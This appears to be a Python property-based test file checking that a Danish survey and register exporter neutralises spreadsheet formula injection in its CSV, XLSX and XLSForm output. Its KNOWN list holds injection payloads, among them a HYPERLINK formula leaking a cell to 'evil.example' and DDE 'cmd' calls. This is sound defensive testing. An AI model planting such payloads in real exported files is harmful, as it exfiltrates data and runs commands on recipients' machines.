"""Text a respondent or an imported file wrote, starting like a spreadsheet formula (= + - @ tab CR), is never
run as one: CSV cells get an apostrophe in front, XLSX cells are typed as text. Read back with csv and openpyxl."""

from __future__ import annotations

import csv
import io
from datetime import date

from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from evidens.stakeholders import exporting as register_exporting
from evidens.surveys.definition import LONG_TEXT, SHORT_TEXT, SINGLE_CHOICE, Choice, Question, Section, SurveyDefinition
from evidens.surveys.exporting import COMPLETE, ResponseRecord, export_codebook_csv, export_csv, export_xlsx
from evidens.surveys.xlsform import write_xlsform

MODEST = settings(max_examples=40, deadline=5000)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A formula start, a letter (so it is no phone number like "+45 12 34 56 78") and anything a cell can hold.
CELL_TEXT = st.characters(blacklist_categories=("Cs", "Cc"))
FORMULAS = st.builds(lambda start, letter, rest: start + letter + rest, st.sampled_from(FORMULA_STARTS),
                     st.sampled_from("aBcHS"), st.text(CELL_TEXT, max_size=30))
KNOWN = ['=HYPERLINK("http://evil.example/?x="&A1,"Klik")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
         "+HYPERLINK(\"http://x\")", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _definition(label: str) -> SurveyDefinition:
    return SurveyDefinition(title={"da": "Medlemsundersøgelse"}, languages=["da"], sections=[
        Section(name="afsnit", title={"da": "Afsnit"}, questions=[
            Question(name="kommentar", type=LONG_TEXT, label={"da": label}),
            Question(name="navn", type=SHORT_TEXT, label={"da": "Navn"}),
            Question(name="valg", type=SINGLE_CHOICE, label={"da": "Valg"}, other=True,
                     choices=[Choice(value="a", label={"da": "A"}), Choice(value="b", label={"da": label})]),
        ])])


def _record(text: str) -> ResponseRecord:
    return ResponseRecord(reference="r1", status=COMPLETE, version=1, submitted_on=date(2026, 3, 1), segment=text,
                          answers={"kommentar": text, "navn": text, "valg": "other", "valg_other": text},
                          respondent={"name": text, "email": "a@example.org", "organisation": text})


def _csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";")
            for cell in row]


def _xlsx_cells(content: bytes) -> list[tuple[object, str]]:
    workbook = load_workbook(io.BytesIO(content))
    return [(cell.value, cell.data_type) for sheet in workbook.worksheets for row in sheet.iter_rows()
            for cell in row if cell.value is not None]


def _assert_neutral_csv(cells: list[str], text: str) -> None:
    assert text not in cells
    assert "'" + text in cells
    assert not any(cell[:1] in FORMULA_STARTS and cell[1:2].isalpha() for cell in cells)


@MODEST
@given(st.one_of(FORMULAS, st.sampled_from(KNOWN)))
def test_survey_responses_as_csv(text: str) -> None:
    out = io.BytesIO()
    export_csv(_definition(text), [_record(text)], out)
    _assert_neutral_csv(_csv_cells(out.getvalue()), text)
    codebook = io.BytesIO()
    export_codebook_csv(_definition(text), codebook)
    _assert_neutral_csv(_csv_cells(codebook.getvalue()), text)


@MODEST
@given(st.one_of(FORMULAS, st.sampled_from(KNOWN)))
def test_survey_responses_as_xlsx(text: str) -> None:
    out = io.BytesIO()
    export_xlsx(_definition(text), [_record(text)], out)
    cells = _xlsx_cells(out.getvalue())
    assert all(data_type != "f" for _, data_type in cells)
    assert (text, "s") in cells


@MODEST
@given(st.one_of(FORMULAS, st.sampled_from(KNOWN)))
def test_the_register_as_csv_and_xlsx(text: str) -> None:
    headers = ["Navn", "Kommune", "Hjem"]
    rows: list[list[register_exporting.ExportCell]] = [[text, text, 12]]
    _assert_neutral_csv(_csv_cells(register_exporting.write_csv(headers, rows)), text)
    cells = _xlsx_cells(register_exporting.write_xlsx(headers, rows))
    assert all(data_type != "f" for _, data_type in cells)
    assert (text, "s") in cells


def test_a_control_character_from_an_imported_name_does_not_stop_the_register_workbook() -> None:
    cells = _xlsx_cells(register_exporting.write_xlsx(["Navn"], [["Bolig\x01selskabet\x1b Øst"]]))
    assert ("Boligselskabet Øst", "s") in cells


@MODEST
@given(st.one_of(FORMULAS, st.sampled_from(KNOWN)))
def test_an_exported_xlsform_holds_no_formula(text: str) -> None:
    cells = _xlsx_cells(write_xlsform(_definition(text)))
    assert all(data_type != "f" for _, data_type in cells)
    assert (text, "s") in cells
